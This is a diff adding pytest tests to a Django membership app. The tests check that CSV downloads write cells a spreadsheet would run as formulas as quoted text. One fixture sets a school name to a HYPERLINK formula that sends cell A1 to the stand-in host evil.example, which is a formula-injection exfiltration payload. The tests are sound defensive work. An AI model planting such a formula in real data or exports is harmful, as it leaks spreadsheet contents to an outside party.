@@ -1,12 +1,17 @@
 """Downloads name their file safely: no path, quote or line break gets into the header."""
 
+import csv
+import io
+from decimal import Decimal
+
 import pytest
 from django.urls import reverse
 
 from membership.models import Member
 from membership.services import invoice_create, invoice_issue
+from tests.factories import SchoolFactory
 from tests.membership.factories import FeeRateFactory, MembershipFactory, PupilCountFactory
-from thep.downloads import download
+from thep.downloads import csv_download, download
 
 
 @pytest.mark.parametrize(
@@ -42,3 +47,37 @@ def test_the_invoice_downloads_as_an_attachment_named_by_its_reference(
     )
     assert response["Content-Disposition"] == f'attachment; filename="{invoice.reference}.pdf"'
     assert response["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("Bonner Primary School", "Bonner Primary School"),
+        ("=1+1", "'=1+1"),
+        ("+44 20 7946 0000", "'+44 20 7946 0000"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        (Decimal("-250.00"), "-250.00"),
+        (420, "420"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(value, written):
+    response = csv_download(filename="x.csv", header=["value"], rows=[[value]])
+    assert list(csv.reader(io.StringIO(response.content.decode()))) == [["value"], [written]]
+
+
+def test_the_finance_export_keeps_a_formula_in_a_school_name_as_text(client_for, office_admin):
+    school = SchoolFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Bonner")', urn=100003)
+    FeeRateFactory(year=2017)
+    MembershipFactory(member__school=school, year=2017)
+    PupilCountFactory(school=school, year=2017, pupils=100)
+    invoice_issue(
+        invoice=invoice_create(member=Member.objects.get(school=school), year=2017),
+        make_pdf=False,
+    )
+    response = client_for(office_admin).get("/admin/membership/invoice/export-finance-csv/")
+    assert response["Content-Disposition"] == 'attachment; filename="thep-invoices.csv"'
+    header, row = csv.reader(io.StringIO(response.content.decode()))
+    assert row[header.index("member")] == "'" + school.name
+    assert row[header.index("amount")] == "500.00"
